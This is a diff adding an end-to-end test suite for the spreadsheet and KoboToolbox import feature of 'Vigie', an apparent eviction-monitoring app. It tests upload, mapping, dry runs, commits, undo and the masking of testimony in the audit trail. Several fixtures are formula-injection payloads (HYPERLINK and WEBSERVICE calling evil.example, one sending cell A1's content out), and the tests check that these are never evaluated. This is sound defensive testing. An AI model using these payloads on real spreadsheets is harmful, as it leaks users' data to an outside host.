@@ -1,0 +1,720 @@
+import { createHash } from 'node:crypto';
+import type { ImportDetail, ImportDryRun, ImportRecord, ObservationRecord } from '@vigie/domain';
+import { describe, expect, it } from 'vitest';
+import {
+  type ApiClient,
+  createObservation,
+  expectApiError,
+  totalCount,
+  uniqueWord,
+  useApi,
+} from '../support/e2e-api';
+import {
+  BAD_MAPPING,
+  badRows,
+  csvFile,
+  type ImportFile,
+  KOBO_HEADERS,
+  koboCsv,
+  koboSubmissions,
+  koboXlsx,
+  legacyCsv1252,
+  LEGACY_HEADERS,
+  legacyMapping,
+  legacyRows,
+  legacyXlsx,
+  xlsxFile,
+} from '../support/import-files';
+import { uploadImportOk } from '../support/imports';
+
+/*
+ * Imports of past data (issue 14, DESIGN §5) as a user goes through them: upload, mapping, dry
+ * run and its report, commit all or nothing, the same file again, a corrected file, undo.
+ */
+
+const api = useApi({ role: 'admin' });
+
+type Client = ApiClient;
+
+async function ok<T>(promise: Promise<{ status: number; body: T }>, status = 200): Promise<T> {
+  const response = await promise;
+  expect(response.status, JSON.stringify(response.body)?.slice(0, 800)).toBe(status);
+  return response.body;
+}
+
+/** Upload, mapping and dry run: the dry run's answer. */
+async function checked(
+  client: Client,
+  file: ImportFile,
+  mapping: unknown,
+  fields?: Record<string, string>,
+): Promise<{ detail: ImportDetail; dryRun: ImportDryRun }> {
+  const detail = await uploadImportOk(client, file, fields);
+  await ok(client.put(`/api/imports/${detail.id}/mapping`, mapping));
+  const dryRun = await ok(client.post<ImportDryRun>(`/api/imports/${detail.id}/dry-run`));
+  return { detail, dryRun };
+}
+
+/** The live observations an import wrote, by spreadsheet row. */
+async function importedRecords(importId: string): Promise<Map<number, ObservationRecord>> {
+  const rows = (await api.dataSource.query(
+    `SELECT id FROM observations WHERE source->>'importId' = $1 AND deleted_at IS NULL`,
+    [importId],
+  )) as { id: string }[];
+  const records = await Promise.all(
+    rows.map(({ id }) =>
+      ok(api.get<ObservationRecord & { source: { row: number } }>(`/api/observations/${id}`)),
+    ),
+  );
+  return new Map(records.map((record) => [record.source.row, record]));
+}
+
+async function countWhere(sql: string, params: unknown[]): Promise<number> {
+  const [row] = (await api.dataSource.query(sql, params)) as { n: number }[];
+  return row!.n;
+}
+
+/** The same instant, whatever the offset the API writes it with. */
+const instant = (iso: string) =>
+  expect.toSatisfy((value: unknown) => typeof value === 'string' && Date.parse(value) === Date.parse(iso));
+
+const sha256 = (bytes: Buffer) => createHash('sha256').update(bytes).digest('hex');
+
+describe('upload', () => {
+  it('reads a KoboToolbox XLSX export: format, sheet, columns, samples and a mapping that fits it', async () => {
+    const word = uniqueWord('kobo');
+    const submissions = koboSubmissions(word);
+    const file = await koboXlsx(submissions);
+    const detail = await uploadImportOk(api, file);
+
+    expect(detail).toMatchObject({
+      kind: 'observations',
+      status: 'uploaded',
+      format: 'kobo-xlsx',
+      fileName: file.name,
+      fileSha256: sha256(file.bytes),
+      sizeBytes: file.bytes.length,
+      encoding: null,
+      delimiter: null,
+      sheet: 'Observations - labels',
+      sheets: ['Observations - labels'],
+      columns: [...KOBO_HEADERS],
+      rowCount: 3,
+      mapping: null,
+      summary: null,
+      createdBy: api.user!.id,
+    });
+    expect(detail.sampleRows).toHaveLength(3);
+    expect(detail.sampleRows[0]).toEqual([
+      '2021-03-02T06:00:00.000+01:00',
+      '2021-03-02T10:00:00.000+01:00',
+      '2021-03-02T07:15:00.000+01:00',
+      'Expulsion',
+      '50.9513 1.8587 12 5',
+      '50.9513',
+      '1.8587',
+      '12',
+      '5',
+      'crs gm',
+      '35',
+      '2',
+      `Passage au petit matin ${word}`,
+      '101',
+      submissions[0]!.uuid,
+      '2021-03-02T12:30:00',
+      '[50.9513, 1.8587]',
+      'submitted_via_web',
+      'observateur1',
+      '1',
+    ]);
+    expect(detail.suggestedMapping).toMatchObject({
+      sourceIdColumn: '_uuid',
+      timezone: 'Europe/Paris',
+      columns: {
+        start: 'ignore',
+        end: 'ignore',
+        'Informations générales/Date de l’expulsion': 'startedAt',
+        'Informations générales/Type d’opération': 'kind',
+        'Lieu/Coordonnées GPS': 'location',
+        'Forces de l’ordre/Unités présentes': 'forces',
+        'Bilan/Personnes expulsées': 'peopleEvicted',
+        'Bilan/Interpellations': 'arrests',
+        'Bilan/Remarques': 'description',
+        _id: 'ignore',
+        _uuid: 'sourceId',
+        _submission_time: 'ignore',
+        _geolocation: 'ignore',
+      },
+    });
+    // The suggestion is a mapping the API accepts, and it reads every row of the export.
+    await ok(api.put(`/api/imports/${detail.id}/mapping`, detail.suggestedMapping));
+    const dryRun = await ok(api.post<ImportDryRun>(`/api/imports/${detail.id}/dry-run`));
+    expect(dryRun.summary).toEqual({ create: 3, update: 0, unchanged: 0, rejected: 0 });
+  });
+
+  it('reads the same export as CSV: `;`, UTF-8, the BOM left out of the first header', async () => {
+    const file = koboCsv(koboSubmissions(uniqueWord('kobo')));
+    const detail = await uploadImportOk(api, file);
+
+    expect(detail).toMatchObject({
+      format: 'kobo-csv',
+      encoding: 'utf-8',
+      delimiter: ';',
+      sheet: null,
+      sheets: [],
+      columns: [...KOBO_HEADERS],
+      rowCount: 3,
+    });
+  });
+
+  it('reads a legacy Windows-1252 CSV with `;` and its accents', async () => {
+    const word = uniqueWord('legacy');
+    const detail = await uploadImportOk(api, legacyCsv1252(legacyRows(word)));
+
+    expect(detail).toMatchObject({
+      format: 'csv',
+      encoding: 'windows-1252',
+      delimiter: ';',
+      columns: [...LEGACY_HEADERS],
+      rowCount: 4,
+    });
+    expect(detail.sampleRows[1]).toEqual([
+      `L-2019-002-${word}`,
+      '07/02/2019',
+      '08:00',
+      '50.9513, 1.8587',
+      'C.R.S.',
+      '25',
+      '0',
+      '3',
+      'non',
+      '',
+      '4',
+      `Évacuation rapide ${word}`,
+    ]);
+    expect(detail.suggestedMapping.columns).toEqual({
+      'N° fiche': 'sourceId',
+      Date: 'startedAt.date',
+      Heure: 'startedAt.time',
+      GPS: 'location',
+      Forces: 'forces',
+      'Personnes expulsées': 'peopleEvicted',
+      Interpellations: 'arrests',
+      Tentes: 'seizures.tent.quantity',
+      'Tentes détruites': 'seizures.tent.destroyed',
+      'Sacs de couchage': 'seizures.sleeping_bag.quantity',
+      Couvertures: 'seizures.blanket.quantity',
+      Remarques: 'description',
+    });
+  });
+
+  it('reads the sheet asked for in a workbook of several, and lists them all', async () => {
+    const detail = await uploadImportOk(api, await legacyXlsx(legacyRows(uniqueWord('legacy'))), {
+      kind: 'observations',
+      sheet: '2019',
+    });
+
+    expect(detail).toMatchObject({
+      format: 'xlsx',
+      sheet: '2019',
+      sheets: ['Synthèse', '2019'],
+      rowCount: 4,
+    });
+    expect(detail.sampleRows[0]?.slice(0, 5)).toEqual([
+      expect.stringMatching(/^L-2019-001-legacy/),
+      '05/02/2019',
+      '07:30',
+      '50,9513 ; 1,8587',
+      'CRS, GM',
+    ]);
+  });
+
+  it('gives the first 20 rows as samples of a longer file', async () => {
+    const rows = Array.from({ length: 25 }, (_, index) => [`R-${index + 1}`, `ligne ${index + 1}`]);
+    const detail = await uploadImportOk(api, csvFile([['Référence', 'Remarques'], ...rows], 'long.csv'));
+
+    expect(detail.rowCount).toBe(25);
+    expect(detail.sampleRows).toEqual(rows.slice(0, 20));
+  });
+
+  it('keeps a formula cell of a workbook as its cached result, never evaluated', async () => {
+    const file = await xlsxFile(
+      [
+        [
+          'Feuil1',
+          [
+            ['Date', 'Remarques'],
+            [
+              '2021-03-04T07:30:00+01:00',
+              { formula: 'HYPERLINK("http://evil.example/","cliquer")', result: 'cliquer' },
+            ],
+            ['2021-03-05T07:30:00+01:00', { formula: 'WEBSERVICE("http://evil.example/")' }],
+          ],
+        ],
+      ],
+      'formules.xlsx',
+    );
+    const detail = await uploadImportOk(api, file);
+
+    expect(detail.sampleRows).toEqual([
+      ['2021-03-04T07:30:00+01:00', 'cliquer'],
+      ['2021-03-05T07:30:00+01:00', ''],
+    ]);
+  });
+
+  it('suggests a saved mapping again for a file with the same headers', async () => {
+    const extra = uniqueWord('Saisi par ');
+    const headers = [...LEGACY_HEADERS, extra];
+    const base = legacyMapping() as { columns: Record<string, string> };
+    const mapping = { ...base, columns: { ...base.columns, [extra]: 'ignore' } };
+    const name = `Tableur historique ${extra}`;
+    const saved = await ok(
+      api.post<{ id: string }>('/api/import-mappings', {
+        name,
+        kind: 'observations',
+        columns: headers,
+        mapping,
+      }),
+      201,
+    );
+    const rows = legacyRows(uniqueWord('legacy')).map((row) => [
+      ...LEGACY_HEADERS.map((header) => row[header]),
+      'moi',
+    ]);
+    // The same headers in another order: the same file saved from another program.
+    const file = csvFile([[...headers].reverse(), ...rows.map((row) => [...row].reverse())], 'suivi.csv');
+    const detail = await uploadImportOk(api, file);
+
+    expect(detail.suggestedMapping).toMatchObject({
+      ...mapping,
+      mappingId: saved.id,
+      mappingName: name,
+    });
+    // For incidents, the mapping of observations is not offered.
+    const incidents = await uploadImportOk(api, file, { kind: 'incidents' });
+    expect(incidents.suggestedMapping.mappingId).toBeUndefined();
+    await ok(api.delete(`/api/import-mappings/${saved.id}`));
+  });
+});
+
+describe('mapping', () => {
+  it('refuses a mapping that does not fit the file, each problem under its key, and keeps none', async () => {
+    const detail = await uploadImportOk(api, csvFile(badRows(uniqueWord('bad')), 'bad.csv'));
+    const response = await api.put(`/api/imports/${detail.id}/mapping`, {
+      columns: { Date: 'startedAt', Type: 'sortOfThing', Inconnue: 'description' },
+      values: { kind: { Évacuation: 'not_a_kind' } },
+      timezone: 'Mars/Olympus_Mons',
+      dateFormat: 'dd/MM/yyyy HH:mm',
+      sourceIdColumn: 'Absente',
+    });
+
+    const body = expectApiError(response, 400, [
+      'columns.Type',
+      'columns.Inconnue',
+      'values.kind.Évacuation',
+      'timezone',
+      'sourceIdColumn',
+    ]);
+    expect(body.errors?.['columns.Type']).toContain('sortOfThing');
+    const after = await ok(api.get<ImportDetail>(`/api/imports/${detail.id}`));
+    expect(after).toMatchObject({ status: 'uploaded', mapping: null });
+  });
+
+  it('refuses a dry run before any mapping (409)', async () => {
+    const detail = await uploadImportOk(api, csvFile(badRows(uniqueWord('bad')), 'bad.csv'));
+    expectApiError(await api.post(`/api/imports/${detail.id}/dry-run`), 409);
+  });
+});
+
+describe('dry run, report and commit of a file with bad rows', () => {
+  const word = uniqueWord('bad');
+  let existing: ObservationRecord;
+  let detail: ImportDetail;
+  let dryRun: ImportDryRun;
+
+  it('says what each row would do and why, spreadsheet row numbers kept across empty lines', async () => {
+    // Already typed in Vigie: the same morning, the same place as row 2.
+    existing = await createObservation(api, {
+      startedAt: '2021-03-04T07:40:00+01:00',
+      endedAt: '2021-03-04T09:00:00+01:00',
+    });
+    ({ detail, dryRun } = await checked(api, csvFile(badRows(word), 'bad.csv'), BAD_MAPPING));
+
+    expect(detail.rowCount).toBe(6);
+    expect(dryRun).toEqual({
+      summary: { create: 2, update: 0, unchanged: 0, rejected: 4 },
+      rows: [
+        { row: 2, action: 'create', possibleDuplicateIds: [existing.id] },
+        {
+          row: 3,
+          action: 'rejected',
+          errors: {
+            startedAt: 'column "Date": "31/02/2021 07:30" is not a valid date (expected dd/MM/yyyy HH:mm)',
+          },
+        },
+        {
+          row: 5,
+          action: 'rejected',
+          errors: {
+            location: 'column "Latitude": latitude and longitude look swapped ("1.8587", "50.9513")',
+          },
+        },
+        {
+          row: 6,
+          action: 'rejected',
+          errors: {
+            kind: 'column "Type": "Évacuation musclée" is not a known value; accepted codes: eviction, large_eviction, site_works, dispersal',
+          },
+        },
+        {
+          row: 9,
+          action: 'rejected',
+          errors: {
+            kind: 'column "Type": "=HYPERLINK(\\"http://evil.example/\\",\\"x\\")" is not a known value; accepted codes: eviction, large_eviction, site_works, dispersal',
+          },
+        },
+        { row: 10, action: 'create' },
+      ],
+    });
+    const after = await ok(api.get<ImportDetail>(`/api/imports/${detail.id}`));
+    expect(after).toMatchObject({ status: 'checked', summary: dryRun.summary });
+  });
+
+  it('pages the rows of one action, the total in X-Total-Count', async () => {
+    const response = await api.get<{ row: number }[]>(
+      `/api/imports/${detail.id}/rows?action=rejected&_start=1&_end=3`,
+    );
+    expect(response.status).toBe(200);
+    expect(totalCount(response)).toBe(4);
+    expect(response.body.map((row) => row.row)).toEqual([5, 6]);
+  });
+
+  it('gives the report as CSV, one line per problem, no cell a spreadsheet would run as a formula', async () => {
+    const response = await fetch(`${api.baseUrl}/api/imports/${detail.id}/report.csv`, {
+      headers: { authorization: `Bearer ${api.token}` },
+    });
+    expect(response.status).toBe(200);
+    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
+    expect(response.headers.get('content-disposition')).toBe('attachment; filename="rapport-import-bad.csv"');
+    const text = Buffer.from(await response.arrayBuffer()).toString('utf8');
+    const accepted = 'accepted codes: eviction, large_eviction, site_works, dispersal';
+    expect(text).toBe(
+      '\uFEFF' +
+        [
+          'row,action,id,field,message,possible_duplicates',
+          `2,create,,,,${existing.id}`,
+          '3,rejected,,startedAt,"column ""Date"": ""31/02/2021 07:30"" is not a valid date (expected dd/MM/yyyy HH:mm)",',
+          '5,rejected,,location,"column ""Latitude"": latitude and longitude look swapped (""1.8587"", ""50.9513"")",',
+          `6,rejected,,kind,"column ""Type"": ""Évacuation musclée"" is not a known value; ${accepted}",`,
+          `9,rejected,,kind,"column ""Type"": ""=HYPERLINK(\\""http://evil.example/\\"",\\""x\\"")"" is not a known value; ${accepted}",`,
+          '10,create,,,,',
+          '',
+        ].join('\r\n'),
+    );
+  });
+
+  it('refuses the commit while rows are rejected (409 with the counts) and writes nothing', async () => {
+    const response = await api.post(`/api/imports/${detail.id}/commit`, {});
+
+    const body = expectApiError(response, 409, ['skipRejected']);
+    expect(body.current).toEqual({ summary: dryRun.summary });
+    expect(
+      await countWhere(`SELECT count(*)::int AS n FROM observations WHERE description LIKE $1`, [
+        `%${word}%`,
+      ]),
+    ).toBe(0);
+    expect(
+      await countWhere(`SELECT count(*)::int AS n FROM import_changes WHERE import_id = $1`, [detail.id]),
+    ).toBe(0);
+    expect(await ok(api.get<ImportRecord>(`/api/imports/${detail.id}`))).toMatchObject({
+      status: 'checked',
+      result: null,
+      committedAt: null,
+    });
+  });
+
+  it('imports the good rows with skipRejected and records the rows left out', async () => {
+    const record = await ok(
+      api.post<ImportRecord>(`/api/imports/${detail.id}/commit`, { skipRejected: true }),
+    );
+
+    expect(record).toMatchObject({
+      status: 'committed',
+      result: { created: 2, updated: 0, unchanged: 0, skipped: 4 },
+      skippedRows: [3, 5, 6, 9],
+      asValidated: false,
+      committedAt: expect.any(String),
+    });
+    const records = await importedRecords(detail.id);
+    expect([...records.keys()].sort((a, b) => a - b)).toEqual([2, 10]);
+    expect(records.get(2)).toMatchObject({
+      status: 'submitted',
+      kind: 'eviction',
+      startedAt: instant('2021-03-04T07:30:00+01:00'),
+      location: { type: 'Point', coordinates: [1.8587, 50.9513] },
+      peopleEvicted: 30,
+      source: { importId: detail.id, feedId: null, fileName: 'bad.csv', row: 2, sourceId: `B-1-${word}` },
+    });
+    // The formula is text, stored as typed: never evaluated.
+    expect(records.get(10)).toMatchObject({
+      kind: 'dispersal',
+      location: { coordinates: [2.303, 51.0136] },
+      description: `=HYPERLINK("http://evil.example/?d="&A1,"cliquer") ${word}`,
+    });
+    expectApiError(await api.post(`/api/imports/${detail.id}/commit`, { skipRejected: true }), 409);
+  });
+});
+
+describe('a legacy spreadsheet imported, imported again, corrected and undone', () => {
+  const word = uniqueWord('legacy');
+  const rows = legacyRows(word);
+  let first: ImportDetail;
+  let corrected: ImportDetail;
+  let records: Map<number, ObservationRecord>;
+
+  it('imports every row as a submitted observation with its forces, seizures and source', async () => {
+    const file = legacyCsv1252(rows);
+    const { detail, dryRun } = await checked(api, file, legacyMapping());
+    first = detail;
+    expect(dryRun.summary).toEqual({ create: 4, update: 0, unchanged: 0, rejected: 0 });
+    const record = await ok(api.post<ImportRecord>(`/api/imports/${first.id}/commit`, {}));
+    expect(record.result).toEqual({ created: 4, updated: 0, unchanged: 0, skipped: 0 });
+
+    records = await importedRecords(first.id);
+    expect(records.get(2)).toMatchObject({
+      status: 'submitted',
+      kind: 'eviction',
+      startedAt: instant('2019-02-05T07:30:00+01:00'),
+      location: { type: 'Point', coordinates: [1.8587, 50.9513] },
+      peopleEvicted: 40,
+      arrests: 1,
+      source: {
+        importId: first.id,
+        feedId: null,
+        fileName: 'suivi-2019.csv',
+        row: 2,
+        sourceId: `L-2019-001-${word}`,
+      },
+    });
+    const units = (row: number) =>
+      records
+        .get(row)!
+        .forces.map((force) => force.unit)
+        .sort();
+    expect([units(2), units(3), units(4), units(5)]).toEqual([
+      ['crs', 'gm'],
+      ['crs'],
+      ['crs'],
+      ['crs', 'gm', 'pn'],
+    ]);
+    const seizures = (row: number) =>
+      Object.fromEntries(records.get(row)!.seizures.map((s) => [s.item, [s.quantity, s.destroyed]]));
+    expect(seizures(2)).toEqual({ tent: [12, true], sleeping_bag: [8, false] });
+    expect(seizures(3)).toEqual({ tent: [3, false], blanket: [4, false] });
+    // "ne sait pas" leaves `destroyed` unset, which the API stores as false.
+    expect(seizures(4)).toEqual({ tent: [20, false], sleeping_bag: [15, false], blanket: [10, false] });
+
+    // One audit event per record, tagged with the import, and one for the import with the file's digest.
+    const events = (await api.dataSource.query(
+      `SELECT action, entity, entity_id AS "entityId", context FROM audit_events
+        WHERE context->>'importId' = $1 OR (entity = 'imports' AND entity_id = $1) ORDER BY id`,
+      [first.id],
+    )) as { action: string; entity: string; entityId: string; context: Record<string, unknown> }[];
+    expect(events.filter((event) => event.entity === 'observations')).toEqual(
+      [2, 3, 4, 5].map((row) => ({
+        action: 'create',
+        entity: 'observations',
+        entityId: records.get(row)!.id,
+        context: expect.objectContaining({ importId: first.id, row }),
+      })),
+    );
+    expect(events.filter((event) => event.entity === 'imports')).toEqual([
+      {
+        action: 'import',
+        entity: 'imports',
+        entityId: first.id,
+        context: expect.objectContaining({
+          fileSha256: sha256(file.bytes),
+          fileName: 'suivi-2019.csv',
+          created: 4,
+        }),
+      },
+    ]);
+  });
+
+  it('creates nothing from the same file imported again', async () => {
+    const before = await countWhere(`SELECT count(*)::int AS n FROM observations WHERE description LIKE $1`, [
+      `%${word}%`,
+    ]);
+    const { detail, dryRun } = await checked(api, legacyCsv1252(rows), legacyMapping());
+    expect(dryRun).toEqual({
+      summary: { create: 0, update: 0, unchanged: 4, rejected: 0 },
+      rows: [2, 3, 4, 5].map((row) => ({ row, action: 'unchanged', id: records.get(row)!.id })),
+    });
+    const record = await ok(api.post<ImportRecord>(`/api/imports/${detail.id}/commit`, {}));
+    expect(record.result).toEqual({ created: 0, updated: 0, unchanged: 4, skipped: 0 });
+    expect(
+      await countWhere(`SELECT count(*)::int AS n FROM observations WHERE description LIKE $1`, [
+        `%${word}%`,
+      ]),
+    ).toBe(before);
+  });
+
+  it('updates only the changed row from a corrected file, with a new version and its history', async () => {
+    const fixed = rows.map((row) =>
+      row['N° fiche'] === `L-2019-002-${word}` ? { ...row, 'Personnes expulsées': '28' } : row,
+    );
+    const target = records.get(3)!;
+    const { detail, dryRun } = await checked(api, await legacyXlsx(fixed), legacyMapping(), {
+      kind: 'observations',
+      sheet: '2019',
+    });
+    corrected = detail;
+    expect(dryRun.summary).toEqual({ create: 0, update: 1, unchanged: 3, rejected: 0 });
+    expect(dryRun.rows[1]).toEqual({ row: 3, action: 'update', id: target.id });
+    const record = await ok(api.post<ImportRecord>(`/api/imports/${corrected.id}/commit`, {}));
+    expect(record.result).toEqual({ created: 0, updated: 1, unchanged: 3, skipped: 0 });
+
+    const now = await ok(api.get<ObservationRecord & { source: unknown }>(`/api/observations/${target.id}`));
+    expect(now).toMatchObject({
+      peopleEvicted: 28,
+      version: target.version + 1,
+      description: target.description,
+      source: {
+        importId: corrected.id,
+        fileName: 'suivi-expulsions-2019.xlsx',
+        row: 3,
+        sourceId: `L-2019-002-${word}`,
+      },
+    });
+    const untouched = await ok(api.get<ObservationRecord>(`/api/observations/${records.get(2)!.id}`));
+    expect(untouched.version).toBe(records.get(2)!.version);
+    const history = await ok(
+      api.get<{ action: string; diff: Record<string, unknown> }[]>(`/api/observations/${target.id}/history`),
+    );
+    expect(history.map((entry) => entry.action)).toEqual(['update', 'create']);
+    expect(history[0]!.diff).toMatchObject({ peopleEvicted: { before: 25, after: 28 } });
+  });
+
+  it('undoes the correction: the former values come back', async () => {
+    const target = records.get(3)!;
+    const record = await ok(api.post<ImportRecord>(`/api/imports/${corrected.id}/undo`));
+    expect(record).toMatchObject({ status: 'undone', undoneAt: expect.any(String) });
+    const now = await ok(api.get<ObservationRecord & { source: unknown }>(`/api/observations/${target.id}`));
+    expect(now).toMatchObject({ peopleEvicted: 25, source: { importId: first.id, row: 3 } });
+  });
+
+  it('refuses to undo an import whose record was edited since (409), and changes nothing', async () => {
+    const edited = records.get(5)!;
+    const current = await ok(api.get<ObservationRecord>(`/api/observations/${edited.id}`));
+    await ok(api.patch(`/api/observations/${edited.id}`, { version: current.version, arrests: 2 }));
+    const before = await api.dataSource.query(
+      `SELECT id, version, deleted_at FROM observations WHERE source->>'importId' = $1 ORDER BY id`,
+      [first.id],
+    );
+
+    const body = expectApiError(await api.post(`/api/imports/${first.id}/undo`), 409);
+    // Row 3's record went through the correction and its undo: it is back as this import left it,
+    // so only the record edited in Vigie stands in the way.
+    expect(body.current).toEqual({ changedIds: [edited.id] });
+    expect(
+      await api.dataSource.query(
+        `SELECT id, version, deleted_at FROM observations WHERE source->>'importId' = $1 ORDER BY id`,
+        [first.id],
+      ),
+    ).toEqual(before);
+    expect((await ok(api.get<ImportRecord>(`/api/imports/${first.id}`))).status).toBe('committed');
+  });
+});
+
+describe('a KoboToolbox export imported as validated by an admin, then undone', () => {
+  it('validates the records, and the undo soft-deletes what the import created', async () => {
+    const submissions = koboSubmissions(uniqueWord('kobo'));
+    const upload = await uploadImportOk(api, koboCsv(submissions));
+    await ok(api.put(`/api/imports/${upload.id}/mapping`, upload.suggestedMapping));
+    const record = await ok(
+      api.post<ImportRecord>(`/api/imports/${upload.id}/commit`, { asValidated: true }),
+    );
+    expect(record).toMatchObject({
+      asValidated: true,
+      result: { created: 3, updated: 0, unchanged: 0, skipped: 0 },
+    });
+    const records = await importedRecords(upload.id);
+    expect([...records.values()].map((r) => r.status)).toEqual(['validated', 'validated', 'validated']);
+    expect(records.get(2)).toMatchObject({
+      startedAt: instant('2021-03-02T07:15:00+01:00'),
+      kind: 'eviction',
+      location: { coordinates: [1.8587, 50.9513] },
+      source: { sourceId: submissions[0]!.uuid, row: 2 },
+    });
+    expect(records.get(4)!.kind).toBe('large_eviction');
+
+    await ok(api.post<ImportRecord>(`/api/imports/${upload.id}/undo`));
+    const ids = [...records.values()].map((r) => r.id);
+    expect(
+      await countWhere(
+        `SELECT count(*)::int AS n FROM observations WHERE id = ANY($1) AND deleted_at IS NOT NULL`,
+        [ids],
+      ),
+    ).toBe(3);
+    expect(
+      (await api.dataSource.query(
+        `SELECT action FROM audit_events WHERE entity = 'imports' AND entity_id = $1 ORDER BY id`,
+        [upload.id],
+      )) as unknown[],
+    ).toEqual([{ action: 'import' }, { action: 'import_undo' }]);
+    // Undone, the same export may be imported anew.
+    const again = await uploadImportOk(api, koboCsv(submissions));
+    await ok(api.put(`/api/imports/${again.id}/mapping`, again.suggestedMapping));
+    const dryRun = await ok(api.post<ImportDryRun>(`/api/imports/${again.id}/dry-run`));
+    expect(dryRun.summary).toEqual({ create: 3, update: 0, unchanged: 0, rejected: 0 });
+  });
+});
+
+describe('incidents', () => {
+  it('imports incidents with their testimony, masked in the audit trail', async () => {
+    const word = uniqueWord('inc');
+    const secret = uniqueWord('temoin');
+    const testimony = `Il m’a frappé au visage ${secret}`;
+    const file = csvFile(
+      [
+        ['Date', 'Type', 'GPS', 'Victimes', 'Témoignage', 'Remarques'],
+        ['04/03/2021 07:45', 'Gaz lacrymogène', '50.9513, 1.8587', '3', testimony, `Gaz ${word}`],
+      ],
+      'incidents.csv',
+    );
+    const { detail, dryRun } = await checked(
+      api,
+      file,
+      {
+        columns: {
+          Date: 'occurredAt',
+          Type: 'type',
+          GPS: 'location',
+          Victimes: 'victimCount',
+          Témoignage: 'testimony',
+          Remarques: 'description',
+        },
+        dateFormat: 'dd/MM/yyyy HH:mm',
+      },
+      { kind: 'incidents' },
+    );
+    expect(dryRun.summary).toEqual({ create: 1, update: 0, unchanged: 0, rejected: 0 });
+    await ok(api.post(`/api/imports/${detail.id}/commit`, {}));
+
+    const [row] = (await api.dataSource.query(`SELECT id FROM incidents WHERE source->>'importId' = $1`, [
+      detail.id,
+    ])) as { id: string }[];
+    const incident = await ok(api.get<Record<string, unknown>>(`/api/incidents/${row!.id}`));
+    expect(incident).toMatchObject({ type: 'tear_gas', victimCount: 3, testimony, status: 'submitted' });
+    const events = (await api.dataSource.query(
+      `SELECT action, diff, context FROM audit_events WHERE entity = 'incidents' AND entity_id = $1`,
+      [row!.id],
+    )) as { action: string; diff: Record<string, unknown>; context: Record<string, unknown> }[];
+    expect(events).toHaveLength(1);
+    expect(events[0]).toMatchObject({ action: 'create', context: { importId: detail.id, row: 2 } });
+    expect(events[0]!.diff).toHaveProperty('testimony');
+    expect(JSON.stringify(events)).not.toContain(secret);
+    expect(JSON.stringify(events[0]!.diff.testimony)).toContain('[restricted]');
+  });
+});
